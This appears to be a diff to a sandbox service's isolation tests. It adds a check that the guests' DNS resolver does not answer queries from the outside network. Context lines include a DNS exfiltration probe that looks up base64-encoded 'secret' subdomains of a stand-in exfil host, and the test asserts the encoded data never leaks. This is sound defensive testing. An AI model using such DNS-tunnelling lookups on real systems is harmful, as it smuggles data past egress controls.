@@ -6,6 +6,9 @@
  * serving everyone else.
  */
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { status } from '@grpc/grpc-js';
 import { authed, userWithToken } from '../helpers/accounts.js';
@@ -189,6 +192,22 @@ ip addr del 172.31.255.3/30 dev eth0`,
       await exec(id, 'for i in 1 2 3; do getent hosts c2VjcmV0$i.exfil.example; done; true');
       await api(d.url, 'PUT', `/v1/machines/${id}/egress`, {});
       assert.doesNotMatch(inet.requests(), /c2VjcmV0/);
+      return undefined;
+    });
+    await tally.check("the guests' resolver does not answer the outside world", async () => {
+      const port = Number(readFileSync(join(d.stateDir, 'dns-port'), 'utf8'));
+      const script = [
+        'import socket',
+        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)',
+        'q = bytes.fromhex("abcd01000001000000000000") + bytes([4]) + b"pypi" + bytes([4]) + b"test" + bytes([0, 0, 1, 0, 1])',
+        `s.sendto(q, ("198.18.0.1", ${port}))`,
+        'try: print("answered", len(s.recv(512)))',
+        'except socket.timeout: print("silent")',
+      ].join('\n');
+      const r = execFileSync('ip', ['netns', 'exec', inet.netns, 'python3', '-c', script], {
+        encoding: 'utf8',
+      }).trim();
+      assert.equal(r, 'silent');
       return undefined;
     });
     const after = memoryOf(d.proc.pid as number).rssMb;
